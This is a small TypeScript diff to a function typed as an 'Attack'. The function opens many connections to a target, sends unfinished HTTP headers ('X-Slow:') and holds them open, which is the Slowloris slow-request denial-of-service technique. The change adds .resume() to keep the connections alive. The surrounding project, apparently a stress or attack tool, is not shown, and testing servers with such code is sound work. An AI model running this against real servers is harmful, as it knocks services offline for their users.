@@ -149,7 +149,8 @@ const halfRequests = (wanted: number): Attack => ({
   run: async (target, { from }, holdMs) => {
     const wires = times(wanted, () => connect({ ...target, localAddress: from }))
     for (const wire of wires) {
-      wire.on('error', () => undefined)
+      // What isn't read from isn't seen to end.
+      wire.on('error', () => undefined).resume()
       wire.write('GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ')
     }
     await delay(holdMs)
